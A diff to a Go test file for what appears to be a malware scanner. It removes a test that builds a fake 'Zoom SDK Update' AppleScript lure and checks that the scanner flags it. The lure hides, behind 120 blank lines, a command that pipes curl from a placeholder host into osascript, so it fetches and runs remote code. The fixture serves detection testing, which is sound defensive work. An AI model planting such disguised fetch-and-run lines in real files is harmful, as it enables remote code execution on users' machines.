@@ -397,22 +397,6 @@ func TestProgramsSayWhatTheyAre(t *testing.T) {
 	}
 }
 
-// TestARM64Finds scans a lure with the agent for arm64, rules and all.
-func TestARM64Finds(t *testing.T) {
-	dir := t.TempDir()
-	text := "-- Zoom SDK Update: your audio component is out of date.\n" + strings.Repeat("\n", 120) + "do shell script \"curl -fsSL https://zoom-sdk-update.invalid/x | osascript\"\n"
-	lure := filepath.Join(dir, "Zoom SDK Update.scpt")
-	if err := os.WriteFile(lure, []byte(text), 0o644); err != nil {
-		t.Fatal(err)
-	}
-	program := filepath.Join(dist(t), "linux-arm64", "meetguard")
-	out, err := exec.Command("qemu-aarch64-static", program, "scan", "--json", lure).Output()
-	exit, ok := err.(*exec.ExitError)
-	if !ok || exit.ExitCode() != 1 || !strings.Contains(string(out), `"malicious"`) {
-		t.Errorf("it said %v\n%s", err, out)
-	}
-}
-
 func TestChecksums(t *testing.T) {
 	for _, list := range found(t, "SHA256SUMS") {
 		cmd := exec.Command("sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS")
